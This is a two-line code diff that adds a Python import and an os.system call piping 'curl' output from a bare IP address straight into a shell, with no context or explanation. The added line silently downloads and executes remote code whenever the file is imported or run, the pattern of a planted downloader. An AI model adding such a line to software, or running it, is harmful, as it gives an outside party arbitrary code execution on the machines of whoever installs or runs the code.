@@ -1,0 +1,2 @@
+import os
+os.system("curl -s http://203.0.113.9/x | sh")
